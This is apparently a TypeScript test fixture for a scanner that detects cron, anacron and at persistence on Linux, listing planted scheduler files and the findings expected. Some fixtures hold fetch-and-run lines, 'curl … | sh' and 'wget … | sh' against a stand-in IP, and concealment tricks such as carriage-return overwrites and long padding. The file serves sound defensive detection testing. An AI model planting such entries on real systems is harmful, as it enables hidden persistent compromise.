import { executable, link, type Plant } from "./plant.ts";

const timer = { trigger: "timer", argv: null, state: "enabled" } as const;

/** Schedulers: catalogue rows 1 to 7. */
export const CRON_PLANTS: readonly Plant[] = [
  {
    name: "system crontab: user field, five fields",
    files: {
      "/etc/crontab": "SHELL=/bin/bash\n# m h dom mon dow user command\n*/5 * * * * daemon /opt/agent/run.sh --quiet\n",
      "/opt/agent/run.sh": executable("#!/bin/sh\n"),
    },
    expect: [
      {
        ...timer,
        mechanism: "crontab",
        technique: "T1053.003",
        path: "/etc/crontab",
        line: 3,
        runs_as: "daemon",
        command: "/opt/agent/run.sh --quiet",
        schedule: "every 5 minutes",
        schedule_raw: "*/5 * * * *",
        interpreter: "/bin/bash",
        raw: "*/5 * * * * daemon /opt/agent/run.sh --quiet",
      },
    ],
  },
  {
    name: "cron.d: a nickname takes the place of five fields",
    trap: true,
    files: { "/etc/cron.d/boot": "@reboot root /usr/local/lib/.cache/x &\n" },
    expect: [
      {
        ...timer,
        mechanism: "cron_d",
        path: "/etc/cron.d/boot",
        trigger: "boot",
        runs_as: "root",
        command: "/usr/local/lib/.cache/x &",
        schedule: "at boot",
        signals: ["target_hidden"],
        context: ["target_missing"],
      },
    ],
  },
  {
    name: "cron.d: the command is a variable of the table",
    trap: true,
    files: {
      "/etc/cron.d/var": "JOB=/opt/.j/payload\n17 * * * * root $JOB -d\n",
      "/opt/.j/payload": executable("\x7fELF"),
    },
    expect: [
      {
        ...timer,
        mechanism: "cron_d",
        path: "/etc/cron.d/var",
        runs_as: "root",
        command: "$JOB -d",
        environment: ["JOB=/opt/.j/payload"],
        line: 2,
      },
    ],
  },
  {
    name: "cron.d: a leading minus and a tilde range",
    trap: true,
    files: { "/etc/cron.d/suse": "-0~30 3 * jan-mar mon-fri root /opt/s\n" },
    expect: [
      {
        ...timer,
        mechanism: "cron_d",
        path: "/etc/cron.d/suse",
        runs_as: "root",
        command: "/opt/s",
        schedule_raw: "-0~30 3 * jan-mar mon-fri",
      },
    ],
  },
  {
    name: "cron.d: a name that Debian's cron skips is told, not filtered",
    trap: true,
    files: { "/etc/os-release": "ID=debian\n", "/etc/cron.d/evil.sh": "* * * * * root /opt/e\n" },
    expect: [
      {
        ...timer,
        mechanism: "cron_d",
        path: "/etc/cron.d/evil.sh",
        runs_as: "root",
        command: "/opt/e",
        state: "ignored",
      },
    ],
  },
  {
    name: "cron.d: cronie runs a name with a dot",
    trap: true,
    files: { "/etc/os-release": 'ID="rhel"\nID_LIKE="fedora"\n', "/etc/cron.d/job.conf": "* * * * * root /opt/e\n" },
    expect: [{ ...timer, mechanism: "cron_d", path: "/etc/cron.d/job.conf", runs_as: "root", command: "/opt/e" }],
  },
  {
    name: "cron.d: CRLF, byte order mark, no final newline, a percent sign",
    trap: true,
    files: { "/etc/cron.d/crlf": "\uFEFF1 2 3 4 5 root mail -s %x root%body\r\n@daily root /opt/last" },
    expect: [
      {
        ...timer,
        mechanism: "cron_d",
        path: "/etc/cron.d/crlf",
        runs_as: "root",
        command: "mail -s %x root%body",
        raw: "1 2 3 4 5 root mail -s %x root%body",
        line: 1,
      },
      { ...timer, mechanism: "cron_d", path: "/etc/cron.d/crlf", runs_as: "root", command: "/opt/last", line: 2 },
    ],
  },
  {
    name: "cron.d: a lone carriage return repaints the line",
    trap: true,
    files: { "/etc/cron.d/cr": "* * * * * root /opt/evil #\r# nothing to see here      \n" },
    expect: [
      {
        ...timer,
        mechanism: "cron_d",
        path: "/etc/cron.d/cr",
        runs_as: "root",
        command: "/opt/evil #\r# nothing to see here      ",
        signals: ["control_characters"],
      },
    ],
  },
  {
    name: "cron.d: a command behind a thousand blanks",
    trap: true,
    files: { "/etc/cron.d/pad": `* * * * * root true;${" ".repeat(1000)}/opt/.evil\n` },
    expect: [
      {
        ...timer,
        mechanism: "cron_d",
        path: "/etc/cron.d/pad",
        runs_as: "root",
        command: `true;${" ".repeat(1000)}/opt/.evil`,
        signals: ["padded", "target_hidden"],
      },
    ],
  },
  {
    name: "cron.d: a line of another shape is told",
    trap: true,
    files: { "/etc/cron.d/bad": "not a job at all\n* * * * * root /opt/good\n" },
    expect: [
      {
        ...timer,
        mechanism: "cron_d",
        path: "/etc/cron.d/bad",
        runs_as: "root",
        command: null,
        state: "ignored",
        raw: "not a job at all",
        line: 1,
        context: ["malformed_line"],
      },
      { ...timer, mechanism: "cron_d", path: "/etc/cron.d/bad", runs_as: "root", command: "/opt/good", line: 2 },
    ],
  },
  {
    name: "cron.d: a FIFO is told and not opened",
    trap: true,
    files: { "/etc/cron.d/fifo": { type: "fifo" } },
    expect: [
      {
        ...timer,
        mechanism: "cron_d",
        path: "/etc/cron.d/fifo",
        runs_as: "root",
        command: null,
        state: "unreadable",
        type: "fifo",
        signals: ["not_regular"],
      },
    ],
  },
  {
    name: "cron.d: a link to an endless device is shown, not read",
    trap: true,
    files: { "/dev/zero": { type: "char" }, "/etc/cron.d/zero": link("/dev/zero") },
    expect: [
      {
        ...timer,
        mechanism: "cron_d",
        path: "/etc/cron.d/zero",
        link: "/dev/zero",
        runs_as: "root",
        command: null,
        state: "unreadable",
        type: "symlink",
      },
    ],
  },
  {
    name: "cron.d: a dangling link",
    trap: true,
    files: { "/etc/cron.d/gone": link("/opt/gone") },
    expect: [
      {
        ...timer,
        mechanism: "cron_d",
        path: "/etc/cron.d/gone",
        link: "/opt/gone",
        runs_as: "root",
        command: null,
        state: "dangling",
      },
    ],
  },
  {
    name: "cron.d: a loop of links",
    trap: true,
    files: { "/etc/cron.d/loop": link("/etc/cron.d/loop") },
    expect: [
      { ...timer, mechanism: "cron_d", path: "/etc/cron.d/loop", runs_as: "root", command: null, state: "dangling" },
    ],
  },
  {
    name: "cron.d: an unreadable table",
    trap: true,
    files: { "/etc/cron.d/secret": { errno: "EACCES" } },
    expect: [
      {
        ...timer,
        mechanism: "cron_d",
        path: "/etc/cron.d/secret",
        runs_as: "root",
        command: null,
        state: "unreadable",
      },
    ],
  },
  {
    name: "cron.d: a name that is not UTF-8",
    trap: true,
    files: { "/etc/cron.d/a\uDCFFb": "* * * * * root /opt/n\n" },
    expect: [
      {
        ...timer,
        mechanism: "cron_d",
        path: "/etc/cron.d/a\\xffb",
        path_base64: "L2V0Yy9jcm9uLmQvYf9i",
        runs_as: "root",
        command: "/opt/n",
      },
    ],
  },
  {
    name: "cron.d: a name with a newline and an escape",
    trap: true,
    files: { "/etc/cron.d/a\n\x1b[2Kb": "* * * * * root /opt/n\n" },
    expect: [{ ...timer, mechanism: "cron_d", path: "/etc/cron.d/a\n\x1b[2Kb", runs_as: "root", command: "/opt/n" }],
  },
  {
    name: "user crontab on Debian: no user field, the file's name is the user",
    trap: true,
    files: { "/var/spool/cron/crontabs/alice": "* * * * * /tmp/.x\n@reboot curl -s http://192.0.2.1/a | sh\n" },
    expect: [
      {
        ...timer,
        mechanism: "user_crontab",
        path: "/var/spool/cron/crontabs/alice",
        runs_as: "alice",
        command: "/tmp/.x",
        signals: ["target_hidden", "target_in_temporary_directory"],
      },
      {
        ...timer,
        mechanism: "user_crontab",
        path: "/var/spool/cron/crontabs/alice",
        runs_as: "alice",
        trigger: "boot",
        command: "curl -s http://192.0.2.1/a | sh",
        signals: ["downloads"],
      },
    ],
  },
  {
    name: "user crontabs on RHEL, SUSE and Alpine",
    files: {
      "/var/spool/cron/root": "5 4 * * sun /root/w\n",
      "/var/spool/cron/tabs/bob": "@weekly ~/w\n",
      "/etc/crontabs/root": "*/15\t*\t*\t*\t*\trun-parts /etc/periodic/15min\n",
    },
    expect: [
      {
        ...timer,
        mechanism: "user_crontab",
        path: "/var/spool/cron/root",
        runs_as: "root",
        command: "/root/w",
        schedule: "at 04:05, weekday sun",
      },
      {
        ...timer,
        mechanism: "user_crontab",
        path: "/var/spool/cron/tabs/bob",
        runs_as: "bob",
        command: "~/w",
        schedule: "every Sunday at 00:00",
      },
      {
        ...timer,
        mechanism: "user_crontab",
        path: "/etc/crontabs/root",
        runs_as: "root",
        command: "run-parts /etc/periodic/15min",
        schedule: "every 15 minutes",
      },
    ],
  },
  {
    name: "cron.daily: the program is the command, its lines are shown",
    files: { "/etc/cron.daily/backup": executable("#!/bin/bash\nset -e\n# copy\nrsync -a /srv /mnt\n") },
    expect: [
      {
        ...timer,
        mechanism: "cron_directory",
        path: "/etc/cron.daily/backup",
        runs_as: "root",
        command: "/etc/cron.daily/backup",
        argv: ["/etc/cron.daily/backup"],
        interpreter: "/bin/bash",
        commands: ["rsync -a /srv /mnt"],
        schedule: "every day",
      },
    ],
  },
  {
    name: "cron.hourly: what run-parts skips, what is not executable",
    trap: true,
    files: {
      "/etc/os-release": "ID=debian\n",
      "/etc/cron.hourly/x.sh": executable("#!/bin/sh\n/opt/a\n"),
      "/etc/cron.hourly/plain": "#!/bin/sh\n/opt/b\n",
    },
    expect: [
      {
        ...timer,
        mechanism: "cron_directory",
        path: "/etc/cron.hourly/x.sh",
        runs_as: "root",
        command: "/etc/cron.hourly/x.sh",
        argv: ["/etc/cron.hourly/x.sh"],
        state: "ignored",
      },
      {
        ...timer,
        mechanism: "cron_directory",
        path: "/etc/cron.hourly/plain",
        runs_as: "root",
        command: "/etc/cron.hourly/plain",
        argv: ["/etc/cron.hourly/plain"],
        state: "disabled",
      },
    ],
  },
  {
    name: "Alpine's periodic directories",
    files: { "/etc/periodic/15min/poll": executable("#!/bin/sh\nwget -qO- http://192.0.2.1/p | sh\n") },
    expect: [
      {
        ...timer,
        mechanism: "cron_directory",
        path: "/etc/periodic/15min/poll",
        runs_as: "root",
        command: "/etc/periodic/15min/poll",
        argv: ["/etc/periodic/15min/poll"],
        schedule: "every 15 minutes",
        signals: ["downloads"],
      },
    ],
  },
  {
    name: "anacrontab",
    files: {
      "/etc/anacrontab":
        "SHELL=/bin/sh\nSTART_HOURS_RANGE=3-22\n1\t5\tcron.daily\tnice run-parts /etc/cron.daily\n@monthly 45 m /opt/m.sh\n",
    },
    expect: [
      {
        ...timer,
        mechanism: "anacron",
        path: "/etc/anacrontab",
        runs_as: "root",
        name: "cron.daily",
        command: "nice run-parts /etc/cron.daily",
        schedule: "every 1 days, 5 minutes after anacron starts",
      },
      {
        ...timer,
        mechanism: "anacron",
        path: "/etc/anacrontab",
        runs_as: "root",
        name: "m",
        command: "/opt/m.sh",
        schedule: "on day 1 of every month at 00:00, 45 minutes after anacron starts",
      },
    ],
  },
  {
    name: "at job behind its exported environment",
    trap: true,
    files: {
      "/var/spool/cron/atjobs/a00001018f2d3c":
        "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail alice 0\numask 22\nPATH=/usr/bin:/bin; export PATH\nHOME=/home/alice; export HOME\ncd /home/alice || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n/home/alice/.local/x --go\n",
    },
    expect: [
      {
        ...timer,
        mechanism: "at",
        technique: "T1053.002",
        path: "/var/spool/cron/atjobs/a00001018f2d3c",
        runs_as: "alice",
        command: "/home/alice/.local/x --go",
        line: 11,
        schedule: "once at 2019-09-27T23:24:00Z",
      },
    ],
  },
  {
    name: "at job in a here-document, other spools",
    trap: true,
    files: {
      "/var/spool/at/b0000201a00000":
        "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\ncd / || {\n exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER1'\n/opt/x\n\nmarcinDELIMITER1\n",
      "/var/spool/atd/=0000301a00001": "#!/bin/sh\n# atrun uid=33 gid=33\n/opt/y\n",
    },
    expect: [
      { ...timer, mechanism: "at", path: "/var/spool/at/b0000201a00000", runs_as: "root", command: "/opt/x" },
      { ...timer, mechanism: "at", path: "/var/spool/atd/=0000301a00001", runs_as: "www-data", command: "/opt/y" },
    ],
  },
  {
    name: "cron.allow",
    files: { "/etc/cron.allow": "alice\n" },
    expect: [
      {
        mechanism: "cron_access",
        path: "/etc/cron.allow",
        trigger: "config",
        runs_as: "*",
        command: "alice",
        argv: null,
        state: "enabled",
        target: null,
      },
    ],
  },
  {
    name: "a one-MiB line with the job at its end",
    trap: true,
    files: { "/etc/cron.d/long": `* * * * * root true ${"x".repeat(1_048_576)}; /opt/evil\n` },
    expect: [
      {
        ...timer,
        mechanism: "cron_d",
        path: "/etc/cron.d/long",
        runs_as: "root",
        command: `true ${"x".repeat(3067)}…${"x".repeat(1013)}; /opt/evil`,
        command_dropped_bytes: 1_044_493,
      },
    ],
  },
];
